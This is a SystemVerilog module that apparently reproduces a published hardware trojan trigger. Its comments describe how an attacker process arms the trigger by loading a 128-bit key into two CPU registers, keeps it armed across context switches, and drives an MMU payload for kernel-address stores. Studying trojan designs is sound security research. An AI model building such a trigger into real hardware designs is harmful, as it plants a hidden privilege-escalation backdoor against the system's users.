// irt1_trigger: selectively-ready trigger (IRT-1).
//
// Host: the flip-flop based integer register file. The trojan taps the flip-flop outputs of
// two 64-bit general purpose registers. The handling (attacker) process loads a 128-bit
// activation sequence into the pair; while the pair holds it the trigger is high. When the
// operating system switches the process out it saves and overwrites the registers, so the
// trigger drops by itself; when the process is switched back in the OS restores the
// registers and the trigger returns, without any state in the trojan. The process ends the
// attack by overwriting the sequence.
//
// Because the trigger exists only while the handling process owns the register file, it is
// re-established after every context switch and has to reach the payload (in the MMU) in
// time. In the layout this path is treated as a multi-cycle path; the page table walk that
// precedes a store to a kernel address gives it the extra cycles. In RTL it is a plain
// combinational output.
//
// Interface: gpr_a_i, gpr_b_i are the two tapped register values; trigger_o is high while
// {gpr_b_i, gpr_a_i} == KEY. Combinational, no clock. Register choice and KEY are the
// integrator's (the paper publishes neither); widths follow the paper.
module irt1_trigger #(
  parameter int unsigned                      XLEN = irt_pkg::XLEN,
  parameter logic [2*XLEN-1:0]                KEY  = irt_pkg::IRT1_KEY_DEFAULT
) (
  input  logic [XLEN-1:0] gpr_a_i,
  input  logic [XLEN-1:0] gpr_b_i,
  output logic            trigger_o
);

  trigger_value_matcher #(
    .WIDTH (2 * XLEN),
    .KEY   (KEY)
  ) u_match (
    .value_i ({gpr_b_i, gpr_a_i}),
    .match_o (trigger_o)
  );

endmodule
